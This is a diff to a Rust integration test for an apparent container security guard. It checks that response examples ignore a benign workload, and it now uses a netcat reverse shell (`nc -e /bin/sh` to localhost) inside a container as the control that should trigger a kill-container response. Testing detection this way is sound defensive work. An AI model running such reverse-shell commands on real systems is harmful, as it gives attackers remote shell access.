@@ -5,8 +5,8 @@
 //! All examples are loaded into ONE agent (one start instead of one per example, to keep the
 //! test near a minute): a benign workload that matched any example alone leaves a response
 //! record here too, since an example that matched and stopped the search (`continue: false`)
-//! leaves its own record. A control at the end proves the examples were live: a binary run
-//! from a container's writable layer (Critical) makes the kill-container example act.
+//! leaves its own record. A control at the end proves the examples were live: a netcat
+//! reverse shell in a container (Critical) makes the kill-container example act.
 
 use std::{
     path::Path,
@@ -95,10 +95,15 @@ fn benign_container_workload_triggers_no_example() {
                 "mkdir -p /tmp/w && echo data > /tmp/w/f && cat /tmp/w/f",
             ],
         ] {
+            // A failed exec (a container an example killed) is reported with the records below.
             let (ok, _) = c.exec(cmd);
-            assert!(ok, "benign exec {cmd:?} in round {i}");
+            if !ok {
+                eprintln!("benign exec {cmd:?} in round {i} failed");
+            }
         }
-        docker.cmd(&["stop", "-t", "1", &c.id]);
+        let _ = std::process::Command::new("docker")
+            .args(["stop", "-t", "1", &c.id])
+            .output();
     }
     // Let the last events reach the engine.
     std::thread::sleep(Duration::from_secs(2));
@@ -115,15 +120,32 @@ fn benign_container_workload_triggers_no_example() {
             .map(|a| format!("{} ({})", a["alert"]["rule"], a["alert"]["priority"]))
             .collect::<Vec<_>>()
     );
+    let why: Vec<String> = acted
+        .iter()
+        .take(3)
+        .map(|r| {
+            let alert = records
+                .iter()
+                .find(|a| a["kind"] == "alert" && a["alert"]["rule"] == r["rule"]);
+            format!(
+                "{r}\n  alert: {}",
+                alert.map(|a| a["alert"].to_string()).unwrap_or_default()
+            )
+        })
+        .collect();
     assert!(
         acted.is_empty(),
-        "an example acted on a benign workload: {acted:#?}"
+        "an example acted on a benign workload ({} records), e.g.:\n{}",
+        acted.len(),
+        why.join("\n")
     );
 
-    // Control: something an example is for. A binary copied into the writable layer and run
-    // is Critical; kill-container-on-critical snapshots and kills the container.
+    // Control: something an example is for. netcat started to run a shell on its connection
+    // (a reverse shell) is Critical; kill-container-on-critical snapshots and kills the
+    // container.
     let c = docker.run(&["--label", "guard-examples=1"], &["sleep", "600"]);
-    let _ = c.exec(&["sh", "-c", "cp /bin/busybox /tmp/bb && /tmp/bb sleep 30"]);
+    // The exec dies with its container (or nc fails: no network): its status is not the point.
+    let _ = c.exec(&["nc", "-e", "/bin/sh", "127.0.0.1", "9"]);
     let killed = wait_audit(&audit, Duration::from_secs(20), |r| {
         r["kind"] == "response" && r["action"] == "kill_container" && r["outcome"] == "done"
     });
